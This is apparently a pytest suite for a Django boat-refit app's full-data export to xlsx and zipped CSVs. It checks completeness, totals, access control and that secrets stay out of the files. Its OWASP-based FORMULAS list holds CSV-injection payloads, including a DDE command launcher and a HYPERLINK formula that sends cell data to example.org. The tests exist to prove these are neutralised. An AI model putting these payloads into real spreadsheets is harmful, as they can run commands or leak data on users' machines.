"""All my data: every table is in it, every row and sum, nothing a spreadsheet would run, and only the owner's boat."""

import io
import zipfile
from decimal import Decimal

import pandas
import pytest
from django.apps import apps
from django.core.management import CommandError, call_command
from django.db import connection, models
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from refit.boat.actions import papers as keeping
from refit.boat.fields import QuantityField
from refit.boat.models import Boat, Location
from refit.boat.rights import Role
from refit.buying import spend
from refit.buying.actions.chasing import promise
from refit.buying.actions.offers import OfferFacts, add_offer
from refit.buying.spend import Filters
from refit.carry import everything
from refit.carry.everything import MONEY_IN, STAYS, TABLES, columns_of, csv_name, rows_in
from refit.reports import streamed
from refit.reports.streamed import Amount, Running, csv_chunks, write_book
from refit.stores.actions.ledger import Move, record
from refit.stores.models import Condition, EntryKind, Holding, Lot, Part, Reason
from refit.work.actions import dates, plan_job
from refit.work.actions.doing import Done, Worked, finish, set_hours
from refit.work.models import CalendarFeed, Trait
from tests.boat.whole import boat_models, fill
from tests.factory import Factory
from tests.pictures import picture

pytestmark = pytest.mark.django_db
D = Decimal

# OWASP, "CSV Injection": characters that begin a formula, and the shapes that its page warns of.
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    '=cmd|" /C calc"!A0',
    '=HYPERLINK("http://example.org?x="&A1,"click")',
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
]


@pytest.fixture
def full(make) -> Factory:
    return fill(make)


def book_of(boat: Boat) -> io.BytesIO:
    out = io.BytesIO()
    everything.write_workbook(out, boat)
    out.seek(0)
    return out


def zip_of(boat: Boat) -> zipfile.ZipFile:
    return zipfile.ZipFile(io.BytesIO(b"".join(everything.folder(boat))))


def tables_of(archive: zipfile.ZipFile) -> dict[str, pandas.DataFrame]:
    """Return every csv of the zip, read by pandas, by its name without the folder."""
    return {
        name.split("/")[-1]: pandas.read_csv(archive.open(name), encoding="utf-8-sig")
        for name in archive.namelist()
        if name.endswith(".csv")
    }


# --- nothing is missing ------------------------------------------------------------------------------------------


def test_every_table_has_a_sheet_or_a_reason_to_stay_behind():
    """A table added tomorrow fails here until it has one or the other."""
    taken = [model._meta.label for _, model in TABLES]
    assert len(set(taken)) == len(taken)
    assert sorted([*taken, *STAYS]) == sorted(model._meta.label for model in apps.get_models())
    of_a_boat = {model._meta.label for model in (*boat_models(), Boat)}
    assert of_a_boat - set(taken) == {"boat.FormKey", "boat.SheetShape", "work.CalendarFeed"}


def test_what_stays_behind_is_said_in_both_files(full):
    about = pandas.read_excel(book_of(full.boat), sheet_name="About")
    said = dict(zip(about["What"], about["It is"], strict=True))["Not in it"]
    archive = zip_of(full.boat)
    note = archive.read(next(name for name in archive.namelist() if name.endswith("read-me.txt"))).decode()
    for reason in STAYS.values():
        assert reason in said
        assert reason in note


def test_people_leave_by_name_and_without_their_passwords(full):
    full.owner.set_password("halyard-winter-9")
    full.owner.save()
    secret = full.owner.password
    archive = zip_of(full.boat)
    people = tables_of(archive)["people.csv"]
    assert set(people["Role"]) == set(Role.labels)
    assert full.owner.username in " ".join(people["Person"])
    assert not any(secret.encode() in archive.read(name) for name in archive.namelist())


def test_no_secret_of_a_calendar_leaves(full):
    """Whoever has the address reads the calendar; the file is lent about."""
    feed = CalendarFeed.objects.get(boat=full.boat)
    archive = zip_of(full.boat)
    assert not any(feed.secret.encode() in archive.read(name) for name in archive.namelist())


def test_every_column_of_every_table_is_on_its_sheet(make):
    """But for the boat itself, which is the whole file, and columns that repeat others folded."""
    missing = []
    for _, model in TABLES:
        paths = {path for column in columns_of(model, make.boat) for path in column.paths}
        people = {
            field.name
            for field in model._meta.concrete_fields
            if field.is_relation and field.related_model._meta.label == "auth.User"
        }
        for field in model._meta.concrete_fields:
            named = any(path.startswith(f"{field.name}__") for path in paths) and field.name in people
            if not (named or field.attname in paths or field.name in ("boat", *everything.REPEATED)):
                missing.append(f"{model.__name__}.{field.name}")
    assert missing == []


def test_only_what_is_looked_up_by_is_left_out():
    """The columns that are left out are made by `save`, never typed by a person."""
    for model in apps.get_models():
        for field in model._meta.concrete_fields:
            if field.name in everything.REPEATED:
                assert not field.editable


def test_headings_and_titles_are_given_once_and_fit(make):
    for title, model in TABLES:
        headings = [column.heading for column in columns_of(model, make.boat)]
        assert len(set(headings)) == len(headings), title
        assert all(word and "_" not in word and word[0].isupper() for word in headings), headings
        assert len(title) <= 31
    assert len({csv_name(title) for title, _ in TABLES}) == len(TABLES)


def test_an_amount_in_another_currency_says_so(make):
    """What a field's own words call another currency is not written as the boat's."""
    for _, model in TABLES:
        for field in model._meta.concrete_fields:
            if type(field) is models.BigIntegerField:
                other = any(
                    word in field.help_text for word in ("own currency", "order's currency", "their currency")
                )
                assert ((model, field.name) in MONEY_IN) == other, f"{model.__name__}.{field.name}"


def test_both_files_have_every_row(full):
    book = pandas.read_excel(book_of(full.boat), sheet_name=None)
    csvs = tables_of(zip_of(full.boat))
    assert list(book) == ["About", *(title for title, _ in TABLES)]
    assert set(csvs) == {csv_name(title) for title, _ in TABLES}
    about = dict(zip(book["About"]["What"], book["About"]["It is"], strict=True))
    for title, model in TABLES:
        rows = rows_in(full.boat, model).count()
        assert (len(book[title]), len(csvs[csv_name(title)])) == (rows, rows), title
        assert int(about[f"Sheet “{title}”"]) == rows
        assert list(book[title].columns) == list(csvs[csv_name(title)].columns)


def test_the_sums_are_those_of_spend(full):
    full.order(full.line(price=D("99.99"), packs=D(3)), full.line(price=D("0.05")))
    full.draft(full.line(price=D("1000")))
    total = spend.Money()
    for money in spend.totals(spend.facts(full.boat, Filters()), "system").values():
        total.add(money)
    for tables in (
        pandas.read_excel(book_of(full.boat), sheet_name=None),
        {title: tables_of(zip_of(full.boat))[csv_name(title)] for title, _ in TABLES},
    ):
        lines = tables["Order lines"]
        counted = lines[lines["Stands in sums"] == "yes"]
        net = counted["Cost all in, GBP"].sum() - counted["Money back, GBP"].sum()
        assert round(net * 100) == total.ordered > 0
        assert round(tables["Payments"]["Amount, GBP"].sum() * 100) >= total.paid
        assert round(tables["Payments, what for"]["Amount, GBP"].sum() * 100) == round(
            tables["Payments"]["Amount, GBP"].sum() * 100
        )
        assert round(tables["Shares of charges"]["In the boat's money, GBP"].sum() * 100) == round(
            tables["Charges"]["Adds to the cost, GBP"].sum() * 100
        )
    held = tables_of(zip_of(full.boat))["what-is-where.csv"]
    moved = tables_of(zip_of(full.boat))["in-and-out.csv"]
    went_in = moved[moved["To place id"].notna()]["Quantity"].sum()
    went_out = moved[moved["From place id"].notna()]["Quantity"].sum()
    assert held["Quantity"].sum() == went_in - went_out


def test_ids_join_the_tables_again(full):
    """Each id of a column that names a sheet is the Id of a row on it."""
    tables = tables_of(zip_of(full.boat))
    by_model = {model: tables[csv_name(title)] for title, model in TABLES}
    joined = 0
    for _, model in TABLES:
        for field in model._meta.concrete_fields:
            target = field.related_model
            if not isinstance(field, models.ForeignKey) or target not in by_model or field.name == "boat":
                continue
            heading = next(c.heading for c in columns_of(model, full.boat) if c.paths == (field.attname,))
            ids = set(by_model[model][heading].dropna().astype(int))
            assert ids <= set(by_model[target]["Id"]), f"{model.__name__}.{heading}"
            joined += len(ids)
    assert joined > 50


def test_an_order_in_another_currency_keeps_its_own_money(make):
    make.order(make.line(price=D("1240")), currency="JPY", rate=D("190.5"))
    lines = pandas.read_excel(book_of(make.boat), sheet_name="Order lines")
    assert (lines["Amount"][0], lines["Amount, currency"][0]) == (1240, "JPY")
    assert lines["Cost all in, GBP"][0] == 6.51
    page = load_workbook(book_of(make.boat))["Order lines"]
    at = [cell.value for cell in page[1]].index("Amount") + 1
    assert "¥" in page.cell(2, at).number_format


# --- buying in time ------------------------------------------------------------------------------------------------


def test_dates_of_jobs_leave_with_them(make):
    """Days of work, arrows, bookings, milestones, hours and how it was done: by name, number and day."""
    today, job, first = make.today, make.job("Step the masts"), make.job("Mast step")
    plan_job(first, today=today, days=D("0.25"), cure_days=3, traits=["resin", "hot"])
    dates.come_after(job, first)
    dates.book(job, dates.Coming(today, "Rigger", 2), today=today)
    dates.add_milestone(make.boat, kind="mast", target=today, job=job, today=today)
    dates.set_terms(make.boat, weekdays="1111110", margin_days=5, hour_rate=12_50)
    set_hours(make.boat, today, [Worked(first, 90, make.owner)], by=make.owner, today=today)
    finish(first, Done(method="Bedded", test_result="Dry"), on=today, by=make.owner, today=today)
    csvs = tables_of(zip_of(make.boat))
    told = csvs["jobs.csv"].set_index("Number").loc[first.number]
    assert (told["Days of work"], told["Days to cure after it"]) == (0.25, 3)
    assert set(csvs["what-jobs-bring.csv"]["Trait"]) == {
        label for value, label in Trait.choices if value in ("hot", "resin")
    }
    arrow = csvs["jobs-after-jobs.csv"].iloc[0]
    assert (arrow["Job id"], arrow["After id"]) == (job.pk, first.pk)
    assert tuple(csvs["bookings.csv"].iloc[0][["Day", "Days", "Who"]]) == (today.isoformat(), 2, "Rigger")
    assert tuple(csvs["milestones.csv"].iloc[0][["Name", "Target", "Job id"]]) == (
        "Stepping the mast",
        today.isoformat(),
        job.pk,
    )
    assert tuple(csvs["how-we-work.csv"].iloc[0][["Margin days", "An own hour is worth, GBP"]]) == (5, 12.5)
    assert csvs["hours.csv"]["Minutes"].sum() == 90
    assert tuple(csvs["how-jobs-were-done.csv"].iloc[0][["Method", "Test result", "Done on"]]) == (
        "Bedded",
        "Dry",
        today.isoformat(),
    )


def test_prices_promises_and_terms_leave_in_their_currency(make):
    order = make.order(make.line(), currency="EUR", rate=D("1.15"))
    supplier = order.supplier
    supplier.currency, supplier.free_freight_from, supplier.lead_days = "EUR", 150_00, 12
    supplier.save()
    facts = OfferFacts(supplier, D("9.5"), "EUR", make.today, pack_size=D(25), lead_days=6)
    add_offer(make.part("Twin cable"), facts, today=make.today)
    promise(order, None, who="Desk", said_on=make.today, by=make.owner, today=make.today)
    csvs = tables_of(zip_of(make.boat))
    told = csvs["suppliers.csv"].set_index("Name").loc[supplier.name]
    assert (told["Free freight from"], told["Currency"], told["Days until it is here"]) == (150, "EUR", 12)
    price = csvs["prices.csv"].iloc[0]
    assert (price["Part"], price["Price of one as sold"], price["Currency"]) == ("Twin cable", 9.5, "EUR")
    assert (price["Units in one as sold"], price["Days until it is here"]) == (25, 6)
    assert list(csvs["promises.csv"]["Who said so"]) == ["Desk"]


def test_pieces_and_what_is_not_good_are_told_apart(make):
    place, part = make.place(), make.part("Rope", unit="m", in_pieces=True)
    for number, condition, quantity in ((1, "", 22), (2, "", 55)):
        lot = Lot.objects.create(boat=make.boat, part=part, number=number, condition=condition)
        stow_lot(make, part, place, lot, quantity)
    pump = make.part("Old pump")
    scrap = Lot.objects.create(boat=make.boat, part=pump, number=1, condition=Condition.SCRAP, note="Worn")
    stow_lot(make, pump, place, scrap, 1)
    csvs = tables_of(zip_of(make.boat))
    held = csvs["what-is-where.csv"]
    assert list(
        held[held["Part"] == "Rope"][["Piece or thing", "Quantity"]].itertuples(index=False, name=None)
    ) == [
        (1, 22),
        (2, 55),
    ]
    assert list(held[held["Part"] == "Old pump"]["Condition"]) == ["Scrap"]
    assert Holding.objects.filter(boat=make.boat).count() == len(held)


def stow_lot(make: Factory, part: Part, place: Location, lot: Lot, quantity: int) -> None:
    """Put so much of a numbered lot into a place."""
    move = Move(part, Reason.OPENING, D(quantity), to_place=place, lot=lot)
    record(make.boat, EntryKind.PUT_IN, "Put in", [move], by=make.owner, on=make.today, today=make.today)


# --- it is only this boat's, and as it was written ------------------------------------------------------------------


def test_another_boat_is_not_in_it(full):
    other = fill(Factory.start("Secret Other", prefix="other"))
    other.part("Secret winch")
    everything_said = b"".join(
        zip_of(full.boat).read(name) for name in zip_of(full.boat).namelist() if name.endswith(".csv")
    )
    assert b"Impeller" in everything_said
    assert b"Secret" not in everything_said


def test_papers_lie_in_the_zip_by_number(full):
    paper = keeping.add_paper(full.boat, picture("new"), kind="receipt", by=full.owner)
    archive = zip_of(full.boat)
    named = {name for name in archive.namelist() if "/papers/" in name}
    table = tables_of(archive)["papers.csv"]
    assert {name.split("/", 1)[1] for name in named} == set(table["File"])
    assert archive.read(next(n for n in named if f"paper-{paper.number}." in n)) == picture("new")
    assert archive.testzip() is None
    keeping.file_of(paper).unlink()
    note = zip_of(full.boat)
    text = note.read(next(name for name in note.namelist() if name.endswith("read-me.txt"))).decode()
    assert f"not in the data folder: paper {paper.number}." in text


@pytest.mark.parametrize("text", FORMULAS)
def test_nothing_in_it_runs(make, text):
    """OWASP, CSV Injection: text stays text in both files."""
    sheet = Running("Sheet", ["What", text], [[text, D(-1)], ["plain", Amount(-105, "GBP")]])
    out = io.BytesIO()
    write_book(out, [sheet], title=text, identity=[text], as_at=make.today)
    page = load_workbook(out)["Sheet"]
    assert [page["A2"].data_type, page["B1"].data_type, page["B2"].value] == ["s", "s", -1]
    assert page["A2"].quotePrefix
    read = b"".join(csv_chunks(sheet)).decode("utf-8-sig")
    table = pandas.read_csv(io.StringIO(read, newline=""), dtype=str, header=None)
    assert table[0][1] == "'" + streamed.clean(text)
    assert (table[1][1], table[1][2]) == ("-1", "-1.05")


def test_a_part_called_like_a_formula_is_text_on_its_sheet(make):
    make.part("=1+1")
    page = load_workbook(book_of(make.boat))["Parts"]
    at = [cell.value for cell in page[1]].index("Name") + 1
    assert (page.cell(2, at).value, page.cell(2, at).data_type) == ("=1+1", "s")
    assert tables_of(zip_of(make.boat))["parts.csv"]["Name"][0] == "'=1+1"


def test_a_sheet_too_long_runs_on(make, monkeypatch):
    monkeypatch.setattr(streamed, "MOST_ROWS", 3)
    out = io.BytesIO()
    write_book(
        out, [Running("Long", ["N"], [[n] for n in range(7)])], title="x", identity=["x"], as_at=make.today
    )
    book = pandas.read_excel(out, sheet_name=None)
    assert [(title, list(page["N"])) for title, page in book.items()] == [
        ("Long", [0, 1, 2]),
        ("Long 2", [3, 4, 5]),
        ("Long 3", [6]),
    ]


def test_kinds_of_values(full):
    page = load_workbook(book_of(full.boat))["What is where"]
    head = [cell.value for cell in page[1]]
    quantity = page.cell(2, head.index("Quantity") + 1)
    assert quantity.data_type == "n"
    page = load_workbook(book_of(full.boat))["Orders"]
    head = [cell.value for cell in page[1]]
    assert page.cell(2, head.index("Ordered on") + 1).is_date
    assert page.cell(2, head.index("State") + 1).value in ("Part arrived", "Arrived", "Ordered")
    assert isinstance(QuantityField(), models.BigIntegerField)


def test_more_rows_cost_no_more_queries(make):
    """One query a table, and one to count it: rows are named by joins, never one by one."""

    def asked():
        with CaptureQueriesContext(connection) as seen:
            book_of(make.boat)
        return len(seen)

    make.stock(make.part(), make.place())
    make.order()
    few = asked()
    for _ in range(20):
        make.stock(make.part(), make.place())
        make.order(make.line(), make.line())
    assert asked() == few == 2 * len(TABLES)


# --- the page ------------------------------------------------------------------------------------------------------


def test_the_page_offers_both_files_to_the_owner(full, as_owner):
    text = as_owner.get(f"/{full.boat.slug}/everything/").content.decode()
    for kind in ("xlsx", "zip"):
        address = f"/{full.boat.slug}/everything.{kind}"
        assert address in text
        response = as_owner.get(address)
        body = b"".join(response.streaming_content)
        assert f"all-my-data-{full.today.isoformat()}.{kind}" in response["Content-Disposition"]
        assert zipfile.ZipFile(io.BytesIO(body)).testzip() is None
    for page in ("", "boat/"):
        assert "/everything/" in as_owner.get(f"/{full.boat.slug}/{page}").content.decode()


@pytest.mark.parametrize("end", ["everything/", "everything.xlsx", "everything.zip"])
def test_nobody_else_takes_it(full, as_crew, as_trade, as_viewer, as_outsider, end):
    for client, answer in ((as_crew, 403), (as_trade, 403), (as_viewer, 403), (as_outsider, 404)):
        assert client.get(f"/{full.boat.slug}/{end}").status_code == answer


def test_it_is_not_posted(full, as_owner):
    assert as_owner.post(f"/{full.boat.slug}/everything.zip").status_code == 405


# --- the command ---------------------------------------------------------------------------------------------------


def test_the_command_writes_both(full, tmp_path, capsys):
    for kind in ("xlsx", "zip"):
        path = tmp_path / f"mine.{kind}"
        call_command("all_my_data", full.boat.slug, str(path))
        assert zipfile.ZipFile(path).testzip() is None
        said = capsys.readouterr().out
        assert "Order lines ..." in said
        assert f"{len(TABLES)} tables written to {path}." in said
    assert sorted(p.name for p in tmp_path.iterdir() if p.is_file()) == ["mine.xlsx", "mine.zip"]


@pytest.mark.parametrize(
    ("boat", "file", "says"),
    [
        ("nobody", "x.xlsx", "No boat is called nobody. The boats here: test-boat."),
        ("test-boat", "x.ods", "must end in .xlsx"),
        ("test-boat", "nowhere/x.zip", "can't be written: No such file or directory."),
    ],
)
def test_the_command_says_what_is_wrong_in_one_sentence(make, tmp_path, boat, file, says):
    with pytest.raises(CommandError, match=r".") as refused:
        call_command("all_my_data", boat, str(tmp_path / file))
    assert says in str(refused.value)
    assert "\n" not in str(refused.value)
    assert [p for p in tmp_path.iterdir() if p.is_file()] == []


def test_the_command_without_a_boat_says_so(db, tmp_path):
    with pytest.raises(CommandError, match="There is no boat here yet"):
        call_command("all_my_data", "kittiwake", str(tmp_path / "x.zip"))
